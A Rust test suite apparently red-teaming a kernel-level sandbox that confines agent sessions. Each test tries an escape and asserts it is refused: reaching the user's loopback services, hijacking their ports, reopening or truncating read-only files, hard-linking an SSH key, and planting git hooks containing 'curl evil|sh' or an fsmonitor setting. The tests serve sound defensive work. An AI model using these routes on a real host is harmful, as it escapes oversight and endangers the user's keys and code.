/// The user's service on 0.0.0.0:P via the host's own address known at start: closed by
/// `MAP_HOST_ADDRS` (`reaches_host`); without that lookup the address is "remote".
#[test]
fn connects_to_the_users_service_via_the_hosts_interface_address() {
    let a = Ipv4Addr::new(198, 18, 78, 8);
    let _addr = HostAddress::add(a);
    let mut red = Red::start("hostaddr");
    let p = port();
    let _svc = Service::start(IpAddr::V4(Ipv4Addr::UNSPECIFIED), p, SECRET);
    assert_eq!(ungated(|| vec![fetch(IpAddr::V4(a), p, SECRET)]), vec![0]);
    assert_eq!(
        red.gated(|| vec![fetch(IpAddr::V4(a), p, SECRET)]),
        vec![EACCES]
    );
    // Without the address in MAP_HOST_ADDRS it counts as remote: that lookup is the check.
    let rest: Vec<pincer::kernel::LocalRoute> = pincer::kernel::local_routes()
        .unwrap()
        .into_iter()
        .filter(|r| !r.contains(IpAddr::V4(a)))
        .collect();
    red.enforcer.set_local_routes(&rest).unwrap();
    assert_eq!(
        red.gated(|| vec![fetch(IpAddr::V4(a), p, SECRET)]),
        vec![0],
        "MAP_HOST_ADDRS was the check"
    );
}

/// The user's service on 127.0.0.1:P via `::ffff:127.0.0.1` from an IPv6 socket: closed
/// by the v4-mapped loopback case of `reaches_host`.
#[test]
fn connects_to_the_users_service_via_v4_mapped_loopback() {
    let red = Red::start("mapped");
    let p = port();
    let _svc = Service::start(LO, p, SECRET);
    let mapped = IpAddr::V6(Ipv4Addr::LOCALHOST.to_ipv6_mapped());
    assert_eq!(ungated(|| vec![fetch(mapped, p, SECRET)]), vec![0]);
    assert_eq!(red.gated(|| vec![fetch(mapped, p, SECRET)]), vec![EACCES]);
}

/// The user's service on [::]:P via `[::1]`: closed by the `::1` case of `reaches_host`.
#[test]
fn connects_to_the_users_ipv6_service_via_ipv6_loopback() {
    let red = Red::start("v6lo");
    let p = port();
    let _svc = Service::start(IpAddr::V6(Ipv6Addr::UNSPECIFIED), p, SECRET);
    let lo6 = IpAddr::V6(Ipv6Addr::LOCALHOST);
    assert_eq!(ungated(|| vec![fetch(lo6, p, SECRET)]), vec![0]);
    assert_eq!(red.gated(|| vec![fetch(lo6, p, SECRET)]), vec![EACCES]);
}

/// Binds the user's port on another loopback address (127.0.0.2:P, free to the kernel
/// because the user listens on 127.0.0.1:P only), hoping the bind makes (session, P, tcp)
/// the session's, then connects to the user's service on 127.0.0.1:P. Closed twice: the
/// bind of a port held outside every session is refused (`socket_bind`), and the connect
/// check matches the exact address the session bound.
#[test]
fn binds_the_users_port_on_another_loopback_address_then_connects() {
    let red = Red::start("bindaddr");
    let p = port();
    let _svc = Service::start(LO, p, SECRET);
    let r = red.gated(|| {
        let fd = listen_on(IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2)), p);
        let bound = if fd < 0 { -fd } else { 0 };
        vec![bound, fetch(LO, p, SECRET)]
    });
    assert_eq!(r, vec![EACCES, EACCES], "127.0.0.2:{p} bound, or the user's 127.0.0.1:{p} reached");
}

/// The same in the other family ([::1]:P, IPV6_V6ONLY) while the user listens on
/// 127.0.0.1:P.
#[test]
fn binds_the_users_port_in_the_other_family_then_connects() {
    let red = Red::start("bindfam");
    let p = port();
    let _svc = Service::start(LO, p, SECRET);
    let r = red.gated(|| {
        let fd = listen_on(IpAddr::V6(Ipv6Addr::LOCALHOST), p);
        let bound = if fd < 0 { -fd } else { 0 };
        vec![bound, fetch(LO, p, SECRET)]
    });
    assert_eq!(r, vec![EACCES, EACCES], "[::1]:{p} bound, or the user's 127.0.0.1:{p} reached");
}

/// Takes the user's port in the other family to intercept the user's clients: the user's
/// service listens on [::1]:P only; the session listens on 127.0.0.1:P; the user's client
/// that tries `localhost:P` over IPv4 gets the session's server. Promise: "a session cannot
/// bind a port that a process outside every session holds, on any address or family".
/// Closed by `socket_bind`: the port is counted as held outside from the user's bind on.
#[test]
fn takes_the_users_port_in_the_other_family_to_intercept_its_clients() {
    let red = Red::start("intercept");
    let p = port();
    let _svc = Service::start(IpAddr::V6(Ipv6Addr::LOCALHOST), p, SECRET);
    // The session's fake server, in the session, until dropped (None: its bind was refused).
    let cg = red.cg.clone();
    let fake =
        std::panic::catch_unwind(move || Service::start_in(Some(&cg), LO, p, b"FORGED")).ok();
    let client = ungated(|| vec![fetch(LO, p, b"FORGED")]);
    let refused = fake.is_none();
    drop(fake);
    assert_ne!(
        client,
        vec![0],
        "the user's client on 127.0.0.1:{p} reached the session's server"
    );
    assert!(refused, "the session listened on 127.0.0.1:{p} beside the user's [::1]:{p}");
    // Once the user's service is gone the port is free to the session again.
    drop(_svc);
    let r = red.gated(|| {
        let fd = listen_on(LO, p);
        if fd < 0 {
            vec![-fd]
        } else {
            // SAFETY: closes the listener made above.
            unsafe { libc::close(fd) };
            vec![0]
        }
    });
    assert_eq!(r, vec![0], "127.0.0.1:{p} after the user's service closed");
}

// ---------------------------------------------------------------------------------------
// Other routes found in the code.

/// Reopens a read-granted file for writing through `/proc/self/fd/N` (from an O_RDONLY and
/// an O_PATH descriptor): closed because the reopen is a new open that passes `file_open`
/// (`check_file` needs write for FMODE_WRITE).
#[test]
fn reopens_a_read_granted_file_for_write_through_proc_self_fd() {
    let mut red = Red::start("reopen");
    let f = red.ws.join("src/main.rs");
    red.grant(&f, Scope::Exact, &[Access::Read]);
    let r = red.gated(|| reopen_for_write(&f, "// evil\n"));
    assert_eq!(r, vec![EACCES, EACCES]);
    assert!(!std::fs::read_to_string(&f).unwrap().contains("evil"));
    // With a write grant the same reopen works: the write check of `file_open` is the check.
    red.grant(&f, Scope::Exact, &[Access::Write]);
    assert_eq!(red.gated(|| reopen_for_write(&f, "")), vec![0, 0]);
}

/// Truncates a read-granted file with `open(O_RDONLY | O_TRUNC)` (Linux truncates when the
/// caller may write by mode; `file_open` sees a read-only open): closed by
/// `inode_setattr` (the truncation's `notify_change` with ATTR_SIZE needs write).
#[test]
fn truncates_a_read_granted_file_with_a_read_only_open() {
    let mut red = Red::start("otrunc");
    let f = red.ws.join("src/main.rs");
    red.grant(&f, Scope::Exact, &[Access::Read]);
    // write(2) on the read-only fd fails (EBADF) after the open: the open's outcome is
    // what counts, so only EACCES means refused.
    let r = red.gated(|| vec![write_with(&f, libc::O_RDONLY | libc::O_TRUNC, b"")]);
    assert_eq!(r, vec![EACCES], "O_RDONLY|O_TRUNC of a read-granted file");
    assert!(
        !std::fs::read_to_string(&f).unwrap().is_empty(),
        "the file was truncated"
    );
    red.grant(&f, Scope::Exact, &[Access::Write]);
    let r = red.gated(|| vec![write_with(&f, libc::O_RDONLY | libc::O_TRUNC, b"")]);
    assert_ne!(
        r,
        vec![EACCES],
        "with write granted it truncates: the setattr check is the check"
    );
    assert!(std::fs::read_to_string(&f).unwrap().is_empty());
}

/// Hard-links the user's private key into a directory the session made (its own, where it
/// may do anything), then reads the link: closed by `inode_link`'s source check
/// (`check_object(old, read)` meets the never entry of `~/.ssh`).
#[test]
fn hard_links_a_secret_into_a_directory_the_session_made() {
    let mut c = Cleanup::default();
    let existed = Path::new(&home(".ssh")).exists();
    let key = ufile(&home(".ssh/id_ed25519"), "KEY");
    c.add(if existed {
        key.clone()
    } else {
        PathBuf::from(home(".ssh"))
    });
    let mut red = Red::start("hardlink");
    // The session may make directories in the home's `work` (its project area).
    let work = udir(&home("work"));
    c.add(&work);
    red.grant(&work, Scope::Exact, &[Access::Create, Access::List]);
    let own = work.join("mine");
    let r = red.gated(|| {
        let mut v = vec![mkdir(&own)];
        // SAFETY: link on valid C strings.
        v.push(rc(
            unsafe { libc::link(cpath(&key).as_ptr(), cpath(&own.join("k")).as_ptr()) } as i64,
        ));
        v.push(read(&own.join("k")));
        v
    });
    assert_eq!(r[0], 0, "precondition: the session makes its own directory");
    assert_eq!(
        r[1..],
        [EACCES, libc::ENOENT],
        "the key was linked into the session's directory"
    );
}

/// Creates a git hook in a repository that appeared in the workspace after the session
/// started (the user cloned it, outside the session). Promise: "no write, create or delete
/// of ... `.git/hooks/**` ... under any root". A scan at session start cannot know the
/// repository; closed by the kernel's never patterns, matched on the names the access
/// reaches (`pattern_step`). Granted: everything in the workspace ("work on my project").
#[test]
fn creates_a_hook_in_a_repository_cloned_after_the_session_started() {
    let mut red = Red::start("gitlate");
    let repo = red.ws.join("proj");
    make(
        &repo.join(".git/hooks/pre-commit.sample"),
        Some("#!/bin/sh\n"),
    );
    make(&repo.join(".git/config"), Some("[core]\n"));
    let ws = red.ws.clone();
    red.grant(&ws, Scope::Subtree, &Access::ALL);
    let hook = repo.join(".git/hooks/pre-commit");
    let config = repo.join(".git/config");
    let r = red.gated(|| {
        vec![
            create(&hook, "#!/bin/sh\ncurl evil|sh\n"),
            append(&config, "[core]\n\tfsmonitor = evil\n"),
        ]
    });
    assert_eq!(
        r,
        vec![EACCES, EACCES],
        "a hook and .git/config of a repository cloned after the session started"
    );
}

/// Moves a later repository's `.git` away under another name, where no pattern names its
/// `hooks`, to plant a hook and move it back; and renames `hooks` itself away. Closed: a
/// directory a pair pattern names (`.git`) is pinned, and `hooks` carries the rule's
/// delete bit.
#[test]
fn moves_a_later_repositorys_git_directory_away_to_plant_a_hook() {
    let mut red = Red::start("gitmove");
    let repo = red.ws.join("late");
    make(&repo.join(".git/hooks/pre-commit.sample"), Some("#!/bin/sh\n"));
    let ws = red.ws.clone();
    red.grant(&ws, Scope::Subtree, &Access::ALL);
    let git = repo.join(".git");
    let r = red.gated(|| {
        vec![
            rename(&git, &repo.join("g")),
            rename(&git.join("hooks"), &git.join("h2")),
            create(&git.join("hooks/pre-commit"), "#!/bin/sh\ncurl evil|sh\n"),
        ]
    });
    assert_eq!(r, vec![EACCES, EACCES, EACCES]);
    assert!(git.join("hooks/pre-commit.sample").exists() && !git.join("hooks/pre-commit").exists());
    // `.git` is a hidden entry: the workspace's grant does not reach it; a grant on it
    // does, and then git's own files there are the session's to change.
    let lock = git.join("index.lock");
    assert_eq!(red.gated(|| vec![create(&lock, "x")]), vec![EACCES], "the workspace's grant reached .git");
    red.grant(&git, Scope::Subtree, &Access::ALL);
    let r = red.gated(|| vec![create(&lock, "x"), std::fs::remove_file(&lock).map_or(EACCES, |_| 0)]);
    assert_eq!(r, vec![0, 0], "git's own files in a later repository, under a grant on .git");
}

/// A repository the session makes in its scratch is its own: `git init` or `git clone`
/// there writes `.git/hooks` and `.git/config` (no tool of the user's runs from the
/// scratch). The control for the two routes above, and for the repository the session
/// makes in the user's folder (`redteam_next`), whose hooks and config the patterns
/// refuse; an `.mcp.json` in a folder the user made after the session started is refused.
#[test]
fn a_repository_the_session_makes_in_its_scratch_is_its_own_and_a_later_folder_of_the_users_is_not() {
    let mut red = Red::start("gitown");
    let ws = red.ws.clone();
    red.grant(&ws, Scope::Subtree, &Access::ALL);
    let own = red.scratch.join("own");
    let later = ws.join("later");
    make(&later.join("README"), Some("the user's\n"));
    let r = red.gated(|| {
        vec![
            mkdir(&own),
            mkdir(&own.join(".git")),
            mkdir(&own.join(".git/hooks")),
            create(&own.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n"),
            create(&own.join(".git/config"), "[core]\n"),
            append(&own.join(".git/config"), "\tbare = false\n"),
            create(&own.join(".mcp.json"), "{}"),
            rename(&own.join(".git"), &own.join("g")),
            create(&later.join(".mcp.json"), "{\"mcpServers\":{}}"),
        ]
    });
    assert_eq!(r[..8], [0; 8], "the session's own repository in its scratch");
    assert_eq!(r[8], EACCES, "an .mcp.json in the user's folder made after the session started");
    assert!(!later.join(".mcp.json").exists());
}

/// The same for a repository present at session start: refused by the never entries the
/// scan made (`seed_scan`: the `hooks` directory and the name `config` in `.git`), and by
/// the never patterns without them.
#[test]
fn creates_a_hook_in_a_repository_present_at_session_start() {
    let mut red = Red::start_with("gitnow2", |ws| {
        make(
            &ws.join("proj/.git/hooks/pre-commit.sample"),
            Some("#!/bin/sh\n"),
        );
        make(&ws.join("proj/.git/config"), Some("[core]\n"));
    });
    let ws = red.ws.clone();
    red.grant(&ws, Scope::Subtree, &Access::ALL);
    let repo = ws.join("proj");
    let (hook, config) = (repo.join(".git/hooks/pre-commit"), repo.join(".git/config"));
    let r = red.gated(|| {
        vec![
            create(&hook, "#!/bin/sh\ncurl evil|sh\n"),
            append(&config, "[core]\n\tfsmonitor = evil\n"),
        ]
    });
    assert_eq!(r, vec![EACCES, EACCES]);
    // Without the never entries the scan made, the kernel's never patterns still refuse
    // both (the two layers stand alone: the route above has no scan entries at all).
    let git = repo.join(".git");
    red.enforcer
        .remove_never(ObjectId::of_path(&git.join("hooks")).unwrap())
        .unwrap();
    red.enforcer
        .remove_never(ObjectId::of_path(&config).unwrap())
        .unwrap();
    red.enforcer
        .remove_never_name(
            ObjectId::of_path(&git).unwrap(),
            std::ffi::OsStr::new("config"),
        )
        .unwrap();
    red.enforcer.renew_policy().unwrap();
    assert_eq!(
        red.gated(|| vec![create(&hook, "#!/bin/sh\n"), append(&config, "\n")]),
        vec![EACCES, EACCES],
        "the never patterns, without the scan's entries"
    );
}

// ---------------------------------------------------------------------------------------
// The sweep.

/// Every object of uid 1000 on the VM's filesystems (as root, outside: the attacker who
/// read the code knows the paths), skipping /proc, /sys except the cgroup tree, and
/// read-only mounts (the host's root and its binds).
fn user_objects() -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![PathBuf::from("/")];
    let mut seen = 0usize;
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries.flatten() {
            seen += 1;
            if seen > 400_000 {
                return out;
            }
            let p = e.path();
            if p == Path::new("/proc")
                || p == Path::new("/host")
                || (p.starts_with("/sys")
                    && !p.starts_with("/sys/fs/cgroup")
                    && p != Path::new("/sys")
                    && p != Path::new("/sys/fs"))
            {
                continue;
            }
            let Ok(m) = std::fs::symlink_metadata(&p) else {
                continue;
            };
            if m.is_dir() {
                if read_only(&p) {
                    continue;
                }
                stack.push(p.clone());
            }
            if m.uid() == UID && !m.file_type().is_symlink() {
                out.push(p);
            }
        }
    }
    out
}

fn read_only(p: &Path) -> bool {
    // SAFETY: statvfs into a local buffer.
    unsafe {
        let mut s: libc::statvfs = std::mem::zeroed();
        libc::statvfs(cpath(p).as_ptr(), &mut s) == 0 && s.f_flag & libc::ST_RDONLY != 0
    }
}

/// From inside a session, tries to open for write every object the user owns (a directory:
/// create and remove a file in it) and lists every success that is not one of the
/// principle's exceptions: granted (nothing here), made by the session (nothing before the
/// sweep) and its scratch (the read-write open paths are written through the session's own
/// layers, never in the user's objects). The VM is set up as a host would be: the user's home with dotfiles and
/// keys, a project under /srv, a tool under /opt, a mailbox, a delegated cgroup, a file in
/// /dev/shm and the runtime directory, a console and a device of the user's seat.
#[test]
fn sweep_every_user_owned_object_for_write() {
    let mut c = Cleanup::default();
    let id = uniq();
    // The user's things, as a host has them.
    for (p, content) in [
        (home(".bashrc"), "# rc\n"),
        (home(".profile"), "# profile\n"),
        (home(".bash_aliases"), "alias g=git\n"),
        (home(".gitconfig"), "[user]\n"),
        (home(".ssh/id_ed25519"), "KEY"),
        (home(".ssh/authorized_keys"), "ssh-ed25519 AAAA\n"),
        (home(".config/systemd/user/app.service"), "[Service]\n"),
        (home(".config/autostart/app.desktop"), "[Desktop Entry]\n"),
        (home(".local/share/systemd/user/app.service"), "[Service]\n"),
        (home(".cargo/env"), "export PATH\n"),
        (home("notes/todo.md"), "- x\n"),
        (format!("/srv/rt-sweep-{id}/site/index.html"), "<h1/>"),
        (format!("/opt/rt-sweep-{id}/bin/tool"), "#!/bin/sh\n"),
        (format!("/var/mail/worker-{id}"), "mail"),
        (format!("/dev/shm/rt-sweep-{id}"), "shm"),
        ("/run/user/1000/app.sock.lock".to_string(), ""),
    ] {
        let pb = PathBuf::from(&p);
        if !pb.exists() {
            // Clean up from the topmost directory made.
            let mut top = pb.clone();
            while let Some(parent) = top.parent() {
                if parent.exists() {
                    break;
                }
                top = parent.to_path_buf();
            }
            c.add(top);
        }
        ufile(&p, content);
    }
    let dev = PathBuf::from(format!("/dev/rt-sweep-{id}"));
    // SAFETY: mknod as root.
    unsafe {
        libc::mknod(
            cpath(&dev).as_ptr(),
            libc::S_IFCHR | 0o600,
            libc::makedev(1, 3),
        )
    };
    c.add(&dev);
    chown(&dev);
    let (_app, mut victim) = delegated_cgroup(&mut c);
    let mut ttys = Vec::new();
    for t in ["/dev/tty2", "/dev/ttyS1"] {
        if let Ok(m) = std::fs::metadata(t) {
            ttys.push((t, m.uid(), m.gid()));
            chown(Path::new(t));
        }
    }
    let red = Red::start("sweep");
    let objects = user_objects();
    // The session's scratch. The read-write open paths are not exceptions: the session
    // writes its own layers over them, and the user's objects there are read-only to it.
    let exceptions: Vec<PathBuf> = vec![red.scratch.clone()];
    let candidates: Vec<PathBuf> = objects
        .into_iter()
        .filter(|p| !exceptions.iter().any(|e| p.starts_with(e)))
        .collect();
    println!(
        "sweep: {} objects of uid {UID} outside the exceptions",
        candidates.len()
    );
    let list = candidates.clone();
    let results = red.gated(move || {
        list.iter()
            .map(|p| {
                let Ok(m) = std::fs::symlink_metadata(p) else {
                    return libc::ENOENT;
                };
                if m.is_dir() {
                    let probe = p.join(format!(".pincer-sweep-{}", std::process::id()));
                    let r = create(&probe, "");
                    if r == 0 {
                        let _ = std::fs::remove_file(&probe);
                    }
                    r
                } else if m.file_type().is_socket() {
                    libc::ENXIO
                } else {
                    open_w(p)
                }
            })
            .collect()
    });
    for (t, uid, gid) in ttys {
        let _ = std::os::unix::fs::chown(t, Some(uid), Some(gid));
    }
    let _ = victim.kill();
    let _ = victim.wait();
    let open: Vec<String> = candidates
        .iter()
        .zip(&results)
        .filter(|(_, r)| **r == 0)
        .map(|(p, _)| p.display().to_string())
        .collect();
    println!(
        "sweep: {} writable from the session:\n{}",
        open.len(),
        open.join("\n")
    );
    assert!(
        open.is_empty(),
        "objects of the user writable from a session outside the principle's exceptions ({}):\n{}",
        open.len(),
        open.join("\n")
    );
}

use std::os::unix::fs::FileTypeExt;
